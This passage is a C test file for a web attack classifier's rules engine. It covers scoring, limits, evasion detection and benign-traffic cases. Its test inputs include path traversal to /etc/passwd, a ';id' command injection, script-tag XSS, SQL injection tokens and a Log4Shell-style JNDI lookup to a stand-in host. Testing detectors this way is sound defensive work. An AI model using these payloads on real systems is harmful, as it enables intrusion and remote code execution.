/* The classifier: fields, forms, the literal prefilter, scoring, limits,
 * exclusions and hit counters, on small rule sets written by the test. */
#include <stdlib.h>
#include <apr_strings.h>
#include <apr_file_io.h>
#include <apr_time.h>
#include "lw_test_engine.h"

/* Rules text compiled into an engine (NULL and the reason on error). */
#define engine(p, name, text) lw_test_rules_engine(p, text)

#define find_hit lw_test_find_hit

static int classify(const lw_engine_t *e, const char *method, const char *uri,
                    const lw_header_t *h, int nh, const lw_limits_t *lim,
                    apr_pool_t *p, lw_result_t *res)
{
    lw_request_t req;
    lw_test_request(&req, method, uri, h, nh);
    return lw_classify(e, &req, lim, p, res);
}

#define R(id, cat, sev, target, extra, pat, m, nm) \
    "rule " #id "\n category " cat "\n severity " sev "\n msg rule " #id \
    "\n target " target "\n" extra " pattern " pat "\n match " m \
    "\n nomatch " nm "\n\n"

/* One rule per field kind, each on the literal "evil". */
static const char fields_rules[] =
    R(1, "protocol", "high", "method", " literal evil\n", "^evil", "EVIL /", "GET /")
    R(2, "probe", "high", "path", " literal evil\n", "evil\\.php", "/evil.php", "/good.php")
    R(3, "sqli", "high", "query", " literal evil\n", "q=evil", "/?q=evil", "/?q=good")
    R(4, "sqli", "high", "arg_names", " literal evil\n", "^evil_", "/?evil_x=1", "/?x=evil_")
    R(5, "sqli", "high", "args", " literal evil\n", "^evil-arg$", "/?a=evil-arg", "/?evil-arg=1")
    R(6, "rfi", "high", "uri", " literal evil\n", "evil\\.php\\?", "/evil.php?", "/evil.php")
    R(7, "scanner", "high", "user_agent", " literal evil\n", "evilbot", "User-Agent: evilbot", "Referer: evilbot")
    R(8, "xss", "high", "referer", " literal evil\n", "evilref", "Referer: evilref", "User-Agent: evilref")
    R(9, "sqli", "high", "cookie", " literal evil\n", "evil cookie", "Cookie: a=evil+cookie", "X-Foo: evil cookie")
    R(10, "rce", "high", "headers", " literal evil\n", "evilhdr", "X-Foo: evilhdr", "Cookie: evilhdr");

static void test_fields(apr_pool_t *p)
{
    lw_engine_t *e = engine(p, "fields.rules", fields_rules);
    lw_limits_t lim;
    lw_result_t res;
    lw_header_t h[4] = {
        { "user-agent", "evilbot/1.0" }, { "Referer", "http://evilref/" },
        { "Cookie", "s=evil+cookie" }, { "X-Foo", "xx evilhdr" }
    };
    const lw_hit_t *hit;
    CHECK(e != NULL);
    if (!e)
        return;
    lw_limits_default(&lim);
    classify(e, "EVIL", "/evil.php?q=evil&evil_n=1&ev%69l%5Fname=evil-arg",
             h, 4, &lim, p, &res);
    CHECK(res.nhits == 10);
#define FIELD(id, want) do { hit = find_hit(&res, id); \
        CHECK(hit != NULL); if (hit) CHECK_STR(hit->field, want); } while (0)
    FIELD(1, "method");
    FIELD(2, "path");
    FIELD(3, "query");
    FIELD(4, "arg_names");
    FIELD(5, "args:evil_name");      /* the decoded parameter name */
    FIELD(6, "uri");
    FIELD(7, "user_agent");
    FIELD(8, "referer");
    FIELD(9, "cookie");
    FIELD(10, "header:X-Foo");
    hit = find_hit(&res, 5);
    if (hit)
        CHECK(hit->excerpt_len == 8 && memcmp(hit->excerpt, "evil-arg", 8) == 0);
    /* Each rule counts once, with its first hit. */
    CHECK(res.score == 10 * 4);
    CHECK(res.severity == LW_SEV_HIGH);

    /* A field only sees its own part: nothing here is in the right place. */
    classify(e, "GET", "/index.html?a=evilbot", NULL, 0, &lim, p, &res);
    CHECK(res.nhits == 0 && res.score == 0);
    /* A value keeps what follows a ';' ("evil-arg;x" is no match), and
     * each ';' part is read alone too (a framework that splits there
     * hands over b=evil-arg); an encoded ';' splits nothing. */
    classify(e, "GET", "/?a=1%3Bevil-arg&b=evil-arg%3Bx", NULL, 0, &lim, p,
             &res);
    CHECK(find_hit(&res, 5) == NULL);
    classify(e, "GET", "/?a=1;evil-arg&b=evil-arg;x", NULL, 0, &lim, p, &res);
    CHECK_HIT_FIELD(&res, 5, "args:b");
    classify(e, "GET", "/?b=x;y&a=evil-arg", NULL, 0, &lim, p, &res);
    CHECK_HIT_FIELD(&res, 5, "args:a");
    /* NULL-safe on a broken request. */
    CHECK(classify(e, NULL, NULL, NULL, 0, &lim, p, &res) == 0);
    CHECK(res.nhits == 0);
}

static const char form_rules[] =
    R(20, "lfi", "high", "path args", " literal ../\n", "(?:\\.\\./){2}",
      "/a/%2e%2e/%2e%2e/etc", "/a/%2e%2e/etc")
    R(21, "lfi", "medium", "path", " form raw\n literal %2e\n", "%2e%2e",
      "/a/%2e%2e/", "/a/../")
    /* Prefilter gating: the pattern alone would match "abc", but the rule
     * is tried only when its literal is there. */
    R(22, "sqli", "high", "args", " literal zzqq\n", "abc",
      "/?a=abc+zzqq", "/?a=abc");

static void test_forms(apr_pool_t *p)
{
    lw_engine_t *e = engine(p, "forms.rules", form_rules);
    lw_limits_t lim;
    lw_result_t res;
    const lw_hit_t *hit;
    CHECK(e != NULL);
    if (!e)
        return;
    lw_limits_default(&lim);
    /* Encoded: the norm rule sees "../../", the raw one sees "%2e%2e". */
    classify(e, "GET", "/a/%2e%2e/%2E%2e/etc/passwd", NULL, 0, &lim, p, &res);
    hit = find_hit(&res, 20);
    CHECK(hit && hit->excerpt_len == 6 && memcmp(hit->excerpt, "../../", 6) == 0);
    hit = find_hit(&res, 21);
    CHECK(hit && hit->excerpt_len == 6 && memcmp(hit->excerpt, "%2e%2e", 6) == 0);
    /* Plain: raw == norm, one scan for both forms; only the norm rule. */
    classify(e, "GET", "/a/../../etc/passwd", NULL, 0, &lim, p, &res);
    CHECK(find_hit(&res, 20) != NULL && find_hit(&res, 21) == NULL);
    /* Double encoding in an argument. */
    classify(e, "GET", "/x?f=%252e%252e%252f%252e%252e%252f", NULL, 0, &lim, p, &res);
    CHECK_HIT_FIELD(&res, 20, "args:f");
    /* Without a query, path and uri are the same bytes: a rule on both is
     * tried once and reported as path; a uri-only rule still runs. */
    classify(e, "GET", "/a/../../b", NULL, 0, &lim, p, &res);
    hit = find_hit(&res, 20);
    CHECK(hit && strcmp(hit->field, "path") == 0);
    /* Gating. */
    classify(e, "GET", "/?a=abcdef", NULL, 0, &lim, p, &res);
    CHECK(find_hit(&res, 22) == NULL);
    classify(e, "GET", "/?a=abcdef&b=zzqq", NULL, 0, &lim, p, &res);
    CHECK(find_hit(&res, 22) == NULL);   /* literal in another field */
    classify(e, "GET", "/?a=ZZQQabc", NULL, 0, &lim, p, &res);
    CHECK(find_hit(&res, 22) != NULL);   /* literals are caseless */
}

static const char score_rules[] =
    R(30, "sqli", "low", "args", " literal '\n", "'", "/?a='", "/?a=b")
    R(31, "lfi", "low", "args", " literal ../\n", "\\.\\./", "/?a=../", "/?a=..")
    R(32, "rce", "critical", "args", " literal ;id\n", ";id\\b", "/?a=x%3Bid", "/?a=x%3Bidx")
    R(33, "tool", "info", "user_agent", " literal curl\n", "^curl/", "User-Agent: curl/7.1", "User-Agent: xcurl/7.1")
    R(34, "xss", "medium", "args", " literal <script\n", "<script", "/?a=<script>", "/?a=script");

static void test_score(apr_pool_t *p)
{
    lw_engine_t *e = engine(p, "score.rules", score_rules);
    lw_limits_t lim;
    lw_result_t res;
    lw_header_t ua = { "User-Agent", "curl/7.88.1" };
    apr_uint32_t ids[1];
    int flagged, i30, i31, i33;
    CHECK(e != NULL);
    if (!e)
        return;
    lw_limits_default(&lim);
    i30 = lw_engine_rule_index(e, 30);
    i31 = lw_engine_rule_index(e, 31);
    i33 = lw_engine_rule_index(e, 33);

    /* One weak signal: score 2, not flagged, no counter moves. */
    flagged = classify(e, "GET", "/?name=O'Brien", NULL, 0, &lim, p, &res);
    CHECK(flagged == 0 && res.nhits == 1 && res.score == 2);
    CHECK(res.severity == LW_SEV_LOW);
    CHECK(lw_engine_rule_hits(e, i30) == 0);
    /* Two weak signals flag. */
    flagged = classify(e, "GET", "/?a='&b=../x", NULL, 0, &lim, p, &res);
    CHECK(flagged == 1 && res.score == 4);
    CHECK(res.categories == ((1u << LW_CAT_SQLI) | (1u << LW_CAT_LFI)));
    CHECK(lw_engine_rule_hits(e, i30) == 1 && lw_engine_rule_hits(e, i31) == 1);
    /* The same rule twice counts once. */
    flagged = classify(e, "GET", "/?a='&b='", NULL, 0, &lim, p, &res);
    CHECK(flagged == 0 && res.nhits == 1 && res.score == 2);
    /* A higher threshold. */
    lim.min_score = 5;
    CHECK(classify(e, "GET", "/?a='&b=../x", NULL, 0, &lim, p, &res) == 0);
    lim.min_score = LW_DEFAULT_MIN_SCORE;

    /* A tool alone: named, never flagged, not a category. */
    flagged = classify(e, "GET", "/", &ua, 1, &lim, p, &res);
    CHECK(flagged == 0 && res.score == 0);
    CHECK_STR(res.tool, "rule 33");
    CHECK(res.categories == 0);
    CHECK(lw_engine_rule_hits(e, i33) == 0);
    /* A tool with an attack: named, and the attack decides. */
    flagged = classify(e, "GET", "/?c=1%3Bid", &ua, 1, &lim, p, &res);
    CHECK(flagged == 1 && res.score == 5 && res.severity == LW_SEV_CRITICAL);
    CHECK_STR(res.tool, "rule 33");
    CHECK(res.categories == (1u << LW_CAT_RCE));

    /* Exclusions: by id, then by category. */
    flagged = classify(e, "GET", "/?a='&b=../&c=<script>", &ua, 1, &lim, p, &res);
    CHECK(flagged == 1 && res.score == 2 + 2 + 3);
    ids[0] = 34;
    CHECK(lw_result_exclude(&res, ids, 1, 0, lim.min_score) == 1);
    CHECK(res.score == 4 && find_hit(&res, 34) == NULL);
    CHECK(res.severity == LW_SEV_LOW);
    CHECK(res.categories == ((1u << LW_CAT_SQLI) | (1u << LW_CAT_LFI)));
    CHECK(lw_result_exclude(&res, NULL, 0, 1u << LW_CAT_LFI, lim.min_score) == 0);
    CHECK(res.score == 2 && res.categories == (1u << LW_CAT_SQLI));
    CHECK_STR(res.tool, "rule 33");
    CHECK(lw_result_exclude(&res, NULL, 0, 1u << LW_CAT_TOOL, lim.min_score) == 0);
    CHECK(res.tool == NULL && res.nhits == 1);
}

static void test_limits(apr_pool_t *p)
{
    static const char rules[] =
        R(40, "sqli", "high", "args path", " literal aaaa\n", "^(a|aa)+$",
          "/?x=aaaaaaaa", "/?x=aaaab")
        R(41, "xss", "high", "path", " literal <script\n", "<script", "/<script>", "/script")
        R(42, "xss", "medium", "uri", " literal <script\n", "<script", "/<script>", "/script");
    lw_engine_t *e = engine(p, "limits.rules", rules);
    lw_limits_t lim;
    lw_result_t res;
    const lw_hit_t *hit;
    char uri[300];
    apr_time_t t0, t1;
    CHECK(e != NULL);
    if (!e)
        return;
    lw_limits_default(&lim);

    /* Exponential backtracking is stopped by the match limit. */
    strcpy(uri, "/?x=");
    memset(uri + 4, 'a', 200);
    strcpy(uri + 204, "b");
    t0 = apr_time_now();
    classify(e, "GET", uri, NULL, 0, &lim, p, &res);
    t1 = apr_time_now();
    CHECK(res.limit_hit == 1);
    CHECK(find_hit(&res, 40) == NULL);
    CHECK(t1 - t0 < apr_time_from_msec(200));
    printf("pathological input: %ld us\n", (long)(t1 - t0));

    /* max_inspect: what lies beyond the cap is not read, so padding could
     * hide an attack there: a cut field is never clean, it gets the
     * evasion signal (and the rules still see its head). */
    lim.max_inspect = 16;
    CHECK(classify(e, "GET", "/0123456789/abcdef/<script>", NULL, 0, &lim, p,
                   &res) == 1);
    hit = find_hit(&res, LW_EVASION_RULE_ID);
    CHECK(res.truncated == 1 && res.nhits == 1 && hit != NULL);
    CHECK(hit && hit->detail && strstr(hit->detail, "inspection length")
          && strcmp(hit->field, "path") == 0);
    classify(e, "GET", "/<script>", NULL, 0, &lim, p, &res);
    CHECK(res.truncated == 0 && res.nhits == 2);
    CHECK(classify(e, "GET", "/<script>0123456789abcdef", NULL, 0, &lim, p,
                   &res) == 1);
    CHECK(res.truncated == 1 && find_hit(&res, 41) && find_hit(&res, 42)
          && find_hit(&res, LW_EVASION_RULE_ID));
    /* the same at the cap exactly: nothing cut, clean */
    CHECK(classify(e, "GET", "/0123456789abcde", NULL, 0, &lim, p, &res) == 0);
    CHECK(res.truncated == 0 && res.nhits == 0);
    /* a query cut at the cap (parameters after it never read), and a
     * header: the same */
    CHECK(classify(e, "GET", "/?x=12345678901234567&y=<script>", NULL, 0,
                   &lim, p, &res) == 1);
    CHECK(res.truncated == 1 && find_hit(&res, LW_EVASION_RULE_ID));
    {
        static const char sigs[] =
            R(43, "xss", "high", "user_agent cookie", " literal <script\n",
              "<script", "User-Agent: <script>", "User-Agent: script");
        lw_engine_t *he = engine(p, "limits2.rules", sigs);
        lw_header_t h1;
        CHECK(he != NULL);
        if (he) {
            h1.name = "User-Agent";
            h1.value = "Mozilla/5.0 (X11) padding... <script>";
            CHECK(classify(he, "GET", "/", &h1, 1, &lim, p, &res) == 1);
            hit = find_hit(&res, LW_EVASION_RULE_ID);
            CHECK(hit && strcmp(hit->field, "user_agent") == 0);
            h1.name = "Cookie";
            h1.value = "a=1; b=2; c=3; d=4; e=<script>";
            CHECK(classify(he, "GET", "/", &h1, 1, &lim, p, &res) == 1);
            CHECK(find_hit(&res, LW_EVASION_RULE_ID) != NULL);
            /* a header no rule reads loses nothing: no signal */
            h1.name = "X-Padding";
            CHECK(classify(he, "GET", "/", &h1, 1, &lim, p, &res) == 0);
        }
    }
    lim.max_inspect = LW_DEFAULT_MAX_INSPECT;
    classify(e, "GET", "/<script>", NULL, 0, &lim, p, &res);
    hit = find_hit(&res, 42);
    CHECK(hit && strcmp(hit->field, "uri") == 0);
}

/* More matching rules than LW_MAX_HITS: the highest severities stay. */
static void test_many_hits(apr_pool_t *p)
{
    char *text = "";
    lw_engine_t *e;
    lw_limits_t lim;
    lw_result_t res;
    int i, ncrit = 0;
    for (i = 0; i < LW_MAX_HITS + 4; i++)
        text = apr_psprintf(p, "%srule %d\n category sqli\n severity %s\n"
                            " msg m%d\n target args\n literal hitme\n"
                            " pattern hitme\n match /?a=hitme\n"
                            " nomatch /?a=hit\n", text, 100 + i,
                            i % 4 == 3 ? "critical" : "low", i);
    e = engine(p, "many.rules", text);
    CHECK(e != NULL);
    if (!e)
        return;
    lw_limits_default(&lim);
    CHECK(classify(e, "GET", "/?q=hitme", NULL, 0, &lim, p, &res) == 1);
    CHECK(res.nhits == LW_MAX_HITS);
    for (i = 0; i < res.nhits; i++)
        ncrit += res.hits[i].severity == LW_SEV_CRITICAL;
    CHECK(ncrit == 4);
    CHECK(res.score == 12 * 2 + 4 * 5);   /* every distinct rule counts */
}

/* Many candidate rules on long fields: the per-request regex budget stops
 * the work and says so; a short request is not affected. */
static void test_budget(apr_pool_t *p)
{
    char *text = "", *uri;
    lw_engine_t *e;
    lw_limits_t lim;
    lw_result_t res;
    int i;
    for (i = 0; i < 12; i++)
        text = apr_psprintf(p, "%srule %d\n category sqli\n severity low\n"
                            " msg m%d\n target args query uri\n literal zz\n"
                            " pattern zz\\d\n match /?a=zz1\n"
                            " nomatch /?a=zz\n", text, 200 + i, i);
    e = engine(p, "budget.rules", text);
    CHECK(e != NULL);
    if (!e)
        return;
    lw_limits_default(&lim);
    classify(e, "GET", "/?a=zz+zz", NULL, 0, &lim, p, &res);
    CHECK(res.limit_hit == 0 && res.nhits == 0);
    uri = apr_palloc(p, 8100);
    strcpy(uri, "/?a=");
    for (i = 0; i < 4000; i++)
        memcpy(uri + 4 + 2 * i, "zz", 2);
    /* a digit, not after "zz": every rule's byte gate passes, none
     * matches, so each regex really scans the whole field */
    memcpy(uri + 4 + 2 * 3999, "x1", 2);
    uri[8004] = '\0';
    classify(e, "GET", uri, NULL, 0, &lim, p, &res);
    CHECK(res.limit_hit == 1 && res.nhits == 1
          && res.hits[0].rule_id == LW_EVASION_RULE_ID);
}

/* One field padded with text that wakes many rules cannot starve the
 * next one: each field has its own share of the regex budget, and a field
 * that uses its share up flags the request as an evasion attempt. */
static void test_padding(apr_pool_t *p)
{
    char *text = "", *ua, *ref;
    lw_engine_t *e;
    lw_limits_t lim;
    lw_result_t res;
    lw_header_t h[3];
    const lw_hit_t *ev;
    int i;
    for (i = 0; i < 12; i++)
        text = apr_psprintf(p, "%srule %d\n category sqli\n severity low\n"
                            " msg m%d\n target user_agent referer\n"
                            " literal zz\n pattern zz\\d\n"
                            " match User-Agent: zz1\n nomatch User-Agent: zz\n",
                            text, 300 + i, i);
    text = apr_pstrcat(p, text, R(320, "rce", "critical", "referer",
                                  " literal ${jndi:\n", "\\$\\{jndi:",
                                  "Referer: ${jndi:x}", "Referer: ${x}"), NULL);
    e = engine(p, "padding.rules", text);
    CHECK(e != NULL);
    if (!e)
        return;
    lw_limits_default(&lim);
    ua = apr_palloc(p, 8200);
    for (i = 0; i < 4000; i++)
        memcpy(ua + 2 * i, "zz", 2);
    memcpy(ua + 2 * 3999, "x1", 2);
    ua[8000] = '\0';
    ref = apr_palloc(p, 7100);
    memset(ref, 'x', 7000);
    strcpy(ref + 7000, "${jndi:ldap://evil.example/a}");
    h[0].name = "User-Agent";
    h[0].value = ua;
    h[1].name = "Referer";
    h[1].value = ref;

    /* The padded User-Agent uses its share up: flagged as evasion. */
    CHECK(classify(e, "GET", "/", h, 1, &lim, p, &res) == 1);
    ev = find_hit(&res, LW_EVASION_RULE_ID);
    CHECK(res.limit_hit == 1 && ev != NULL);
    CHECK(ev && ev->category == LW_CAT_PROTOCOL && ev->severity == LW_SEV_HIGH
          && strcmp(ev->field, "user_agent") == 0 && ev->detail != NULL);
    CHECK(res.categories == 1u << LW_CAT_PROTOCOL);
    /* The Referer behind it still gets its regexes. */
    CHECK(classify(e, "GET", "/", h, 2, &lim, p, &res) == 1);
    CHECK(find_hit(&res, 320) != NULL);
    CHECK(find_hit(&res, LW_EVASION_RULE_ID) != NULL);
    /* A short field is unaffected; the evasion hit alone flags whatever
     * LogWatchMinScore says, and goes with an exclusion of its id. */
    lim.min_score = 100;
    CHECK(classify(e, "GET", "/", h, 1, &lim, p, &res) == 1);
    {
        apr_uint32_t id = LW_EVASION_RULE_ID;
        CHECK(lw_result_exclude(&res, NULL, 0, 0, lim.min_score) == 1);
        CHECK(lw_result_exclude(&res, &id, 1, 0, lim.min_score) == 0);
    }
    lim.min_score = LW_DEFAULT_MIN_SCORE;
    h[0].value = "zz zz zz Mozilla/5.0";
    CHECK(classify(e, "GET", "/", h, 2, &lim, p, &res) == 1);
    CHECK(res.limit_hit == 0 && find_hit(&res, 320)
          && !find_hit(&res, LW_EVASION_RULE_ID));
    /* Many inspected headers do not shrink a field's share below one
     * full-length scan: a 6 KiB path that wakes one rule is no evasion. */
    {
        lw_header_t many[30];
        char *path = apr_palloc(p, 6100);
        lw_engine_t *pe = engine(p, "paths.rules",
                                 R(330, "probe", "high", "path",
                                   " literal zz\n", "zz\\d", "/zz1", "/zz"));
        CHECK(pe != NULL);
        memset(path, 'a', 6000);
        path[0] = '/';
        memcpy(path + 3000, "zz", 2);
        path[6000] = '\0';
        for (i = 0; i < 30; i++) {
            many[i].name = apr_psprintf(p, "X-H%d", i);
            many[i].value = "v";
        }
        if (pe) {
            classify(pe, "GET", path, many, 30, &lim, p, &res);
            CHECK(res.limit_hit == 0 && res.nhits == 0);
            path[3002] = '7';
            CHECK(classify(pe, "GET", path, many, 30, &lim, p, &res) == 1);
            CHECK(find_hit(&res, 330) && !find_hit(&res, LW_EVASION_RULE_ID));
        }
    }
    /* Nor does a whole budget of padded parameters hide a header. */
    {
        char *uri = apr_palloc(p, 8200);
        strcpy(uri, "/?a=");
        for (i = 0; i < 4000; i++)
            memcpy(uri + 4 + 2 * i, "zz", 2);
        uri[8004] = '\0';
        h[0].value = ua;
        CHECK(classify(e, "GET", uri, h, 2, &lim, p, &res) == 1);
        CHECK(find_hit(&res, 320) != NULL);
    }
}

/* The issue's requests against the default signatures: a User-Agent of
 * ~8,000 bytes of rule-waking tokens, then an attack in the Referer or
 * the Cookie behind 7,000 bytes of padding. Flagged, as without the
 * padded User-Agent. */
/* A shop's ordinary Cookie header: a session, an analytics cookie, an
 * order-attribution cookie that carries a URL-encoded User-Agent and
 * "(none)" fields between "|||", a consent cookie with quoted JSON-like
 * text. Over a kilobyte of '%', '|', '(' and quotes wakes many rules
 * that then find nothing: they must fit in the field's regex budget, or
 * every returning customer would be flagged as an evasion attempt. */
static void test_long_benign_cookie(apr_pool_t *p)
{
    static const char *const parts[] = {
        "woocommerce_items_in_cart=1",
        "wp_woocommerce_session_5f2a=t_81c2e0d9%7C%7C1766669600%7C%7C"
        "1765381825%7C%7C0b9d4c1e7f2a",
        "sbjs_current=typ%3Dorganic%7C%7C%7Csrc%3Dgoogle%7C%7C%7Cmdm%3D"
        "organic%7C%7C%7Ccmp%3D%28none%29%7C%7C%7Ccnt%3D%28none%29%7C%7C%7C"
        "trm%3D%28none%29%7C%7C%7Cid%3D%28none%29",
        "sbjs_udata=vst%3D3%7C%7C%7Cuip%3D%28none%29%7C%7C%7Cuag%3D"
        "Mozilla%2F5.0%20(Windows%20NT%2010.0%3B%20Win64%3B%20x64)%20"
        "AppleWebKit%2F537.36%20(KHTML%2C%20like%20Gecko)%20Chrome%2F"
        "131.0.0.0%20Safari%2F537.36",
        "sbjs_session=pgs%3D4%7C%7C%7Ccpg%3Dhttps%3A%2F%2Fshop.example%2F"
        "product%2Fwool-socks%2F%3Fattribute_size%3Dm",
        "sbjs_first_add=fd%3D2026-11-30%2008%3A01%3A02%7C%7C%7Cep%3D"
        "https%3A%2F%2Fshop.example%2F%7C%7C%7Crf%3D%28none%29",
        "_ga=GA1.1.201361366.1765492148",
        "CookieConsent={stamp:%27kx3QfJ+S7JPYg+yJ7K6uEL8QOP1GWh==%27%2C"
        "necessary:true%2Cpreferences:false%2Cstatistics:true%2Cmarketing:"
        "false%2Cmethod:%27explicit%27%2Cver:2%2Cutc:1766887490713%2C"
        "region:%27de%27}",
    };
    lw_engine_t *e = lw_test_shipped_engine(p);
    lw_limits_t lim;
    lw_result_t res;
    lw_header_t h[2];
    char *cookie = "";
    int i, round;

    CHECK(e != NULL);
    if (!e)
        return;
    lw_limits_default(&lim);
    /* the parts twice over: a long header, as with two shops' cookies */
    for (round = 0; round < 2; round++)
        for (i = 0; i < (int)(sizeof(parts) / sizeof(parts[0])); i++)
            cookie = apr_pstrcat(p, cookie, *cookie ? "; " : "", parts[i],
                                 NULL);
    CHECK(strlen(cookie) > 1500);
    h[0].name = "User-Agent";
    h[0].value = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/"
                 "537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
    h[1].name = "Cookie";
    h[1].value = cookie;
    CHECK(classify(e, "GET", "/product/wool-socks/", h, 2, &lim, p,
                   &res) == 0);
    CHECK(res.limit_hit == 0 && find_hit(&res, LW_EVASION_RULE_ID) == NULL);
}

/* Long URL-valued fields of real traffic, in a browser's request with its
 * usual headers: a login page's redirect_to holding a percent-encoded
 * OAuth authorize URL (state, nonce, PKCE challenge), as OIDC, SAML
 * RelayState and mail link wrappers send them, and WooCommerce's
 * sourcebuster cookies, whose values are percent-encoded campaign URLs.
 * A URL wakes every URL rule in the parameter, the query and the uri
 * alike: the allowance must cover what such a field legitimately wakes,
 * or every such visitor is flagged as an evasion attempt. */
static void test_long_benign_urls(apr_pool_t *p)
{
    static const char authz[] =
        "https://login.example-idp.com/oauth2/v2.0/authorize?client_id="
        "6731de76-14a6-49ae-97bc-6eba6914391e&response_type=code"
        "&redirect_uri=https://shop.example.org/openid-connect/callback"
        "&response_mode=query&scope=openid+"
        "profile+email+offline_access&code_challenge="
        "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"
        "&code_challenge_method=S256&prompt=select_account&state=";
    static const char b64[] =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    lw_engine_t *e = lw_test_shipped_engine(p);
    lw_limits_t lim;
    lw_result_t res;
    lw_header_t h[12];
    char *url, *enc, *uri, *cookie, *camp;
    apr_size_t n, k;
    int i, nh = 0, sizes;

    CHECK(e != NULL);
    if (!e)
        return;
    lw_limits_default(&lim);
    /* As the module passes them: User-Agent, Referer and Cookie first,
     * then the others as the browser sent them. */
    h[nh].name = "User-Agent";
    h[nh++].value = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) "
                    "Gecko/20100101 Firefox/133.0";
    h[nh].name = "Referer";
    h[nh++].value = "https://shop.example.org/my-account/";
    h[nh].name = "Cookie";
    h[nh++].value = "woocommerce_items_in_cart=1; _ga=GA1.1.201361366.17654";
    h[nh].name = "Host"; h[nh++].value = "shop.example.org";
    h[nh].name = "Accept";
    h[nh++].value = "text/html,application/xhtml+xml,application/xml;q=0.9,"
                    "image/avif,image/webp,*/*;q=0.8";
    h[nh].name = "Accept-Language"; h[nh++].value = "de-DE,de;q=0.9,en;q=0.8";
    h[nh].name = "Accept-Encoding"; h[nh++].value = "gzip, deflate, br, zstd";
    h[nh].name = "Upgrade-Insecure-Requests"; h[nh++].value = "1";
    h[nh].name = "Sec-Fetch-Dest"; h[nh++].value = "document";
    h[nh].name = "Sec-Fetch-Mode"; h[nh++].value = "navigate";
    h[nh].name = "Sec-Fetch-Site"; h[nh++].value = "same-origin";
    h[nh].name = "Priority"; h[nh++].value = "u=0, i";

    /* The redirect: its state a signed token, as long as the IdP makes
     * it; 1.5 and 3 KiB of percent-encoded value. */
    for (sizes = 0; sizes < 2; sizes++) {
        apr_size_t want = sizes ? 3000 : 1500;
        url = apr_palloc(p, want + 1);
        n = sizeof(authz) - 1;
        memcpy(url, authz, n);
        for (k = 0; n < want; n++, k++)
            url[n] = (k % 97 == 96) ? '.' : b64[(k * 37 + k / 7) % 64];
        url[n] = '\0';
        enc = apr_palloc(p, 3 * n + 1);
        for (k = 0, i = 0; k < n; k++) {
            unsigned char ch = (unsigned char)url[k];
            if ((ch >= 'a' && ch <= 'z') || (ch >= 'A' && ch <= 'Z')
                || (ch >= '0' && ch <= '9') || ch == '-' || ch == '_'
                || ch == '.')
                enc[i++] = (char)ch;
            else
                i += apr_snprintf(enc + i, 4, "%%%02X", ch);
        }
        enc[i] = '\0';
        uri = apr_pstrcat(p, "/wp-login.php?redirect_to=", enc,
                          "&reauth=1", NULL);
        CHECK(strlen(enc) > want);
        CHECK(classify(e, "GET", uri, h, nh, &lim, p, &res) == 0);
        CHECK(res.limit_hit == 0
              && find_hit(&res, LW_EVASION_RULE_ID) == NULL);
    }

    /* sourcebuster: the first and the current visit's entry page and
     * referrer, campaign URLs with their utm_ and click-id parameters. */
    camp = "https%3A%2F%2Fshop.example.org%2Fproduct%2Fmerino-wool-socks%2F"
           "%3Futm_source%3Dnewsletter%26utm_medium%3Demail%26utm_campaign"
           "%3Dwinter-sale-2026%26utm_content%3Dhero-button%26mc_cid%3D"
           "8f2a61c0de%26mc_eid%3D4d1c9b7e21";
    cookie = apr_pstrcat(p,
        "wordpress_logged_in_5f2a=customer%7C1766669600%7CkQ7d2xv3n8s%7C"
        "0b9d4c1e7f2a; woocommerce_items_in_cart=1; "
        "sbjs_migrations=1418474375998%3D1; "
        "sbjs_current_add=fd%3D2026-12-01%2008%3A01%3A02%7C%7C%7Cep%3D", camp,
        "%7C%7C%7Crf%3Dhttps%3A%2F%2Fl.facebook.com%2F; "
        "sbjs_first_add=fd%3D2026-11-20%2019%3A44%3A10%7C%7C%7Cep%3D", camp,
        "%7C%7C%7Crf%3Dhttps%3A%2F%2Fwww.google.com%2F; "
        "sbjs_current=typ%3Dutm%7C%7C%7Csrc%3Dnewsletter%7C%7C%7Cmdm%3D"
        "email%7C%7C%7Ccmp%3Dwinter-sale-2026%7C%7C%7Ccnt%3Dhero-button"
        "%7C%7C%7Ctrm%3D%28none%29%7C%7C%7Cid%3D%28none%29%7C%7C%7Cplt%3D"
        "%28none%29%7C%7C%7Cfmt%3D%28none%29%7C%7C%7Ctct%3D%28none%29; "
        "sbjs_first=typ%3Dorganic%7C%7C%7Csrc%3Dgoogle%7C%7C%7Cmdm%3D"
        "organic%7C%7C%7Ccmp%3D%28none%29%7C%7C%7Ccnt%3D%28none%29%7C%7C%7C"
        "trm%3D%28none%29%7C%7C%7Cid%3D%28none%29; "
        "sbjs_udata=vst%3D4%7C%7C%7Cuip%3D%28none%29%7C%7C%7Cuag%3D"
        "Mozilla%2F5.0%20%28Windows%20NT%2010.0%3B%20Win64%3B%20x64%29%20"
        "AppleWebKit%2F537.36%20%28KHTML%2C%20like%20Gecko%29%20Chrome%2F"
        "131.0.0.0%20Safari%2F537.36; "
        "sbjs_session=pgs%3D3%7C%7C%7Ccpg%3D", camp, NULL);
    CHECK(strlen(cookie) > 1500);
    h[2].value = cookie;
    CHECK(classify(e, "GET", "/checkout/?wc-ajax=update_order_review",
                   h, nh, &lim, p, &res) == 0);
    CHECK(res.limit_hit == 0 && find_hit(&res, LW_EVASION_RULE_ID) == NULL);
    /* a campaign's landing page: its query holds a URL too */
    CHECK(classify(e, "GET", "/product/merino-wool-socks/?utm_source="
                   "newsletter&utm_medium=email&utm_campaign=winter-sale-2026"
                   "&mc_cid=8f2a61c0de&mc_eid=4d1c9b7e21&ref=https%3A%2F%2F"
                   "mail.example.net%2Fmail%2Fu%2F0%2F%3Fview%3Dcv%26search"
                   "%3Dinbox%26th%3D193a2c1f0e5d7b68",
                   h, nh, &lim, p, &res) == 0);
    CHECK(res.limit_hit == 0 && find_hit(&res, LW_EVASION_RULE_ID) == NULL);
    /* and both in one request */
    CHECK(classify(e, "GET", uri, h, nh, &lim, p, &res) == 0);
    CHECK(res.limit_hit == 0 && find_hit(&res, LW_EVASION_RULE_ID) == NULL);
}

static void test_padding_default_set(apr_pool_t *p)
{
    static const char tokens[] = "union select sleep load_file script "
                                 "document. ${ <? {{ .. | ";
    lw_engine_t *e = lw_test_shipped_engine(p);
    lw_limits_t lim;
    lw_result_t res;
    lw_header_t h[2];
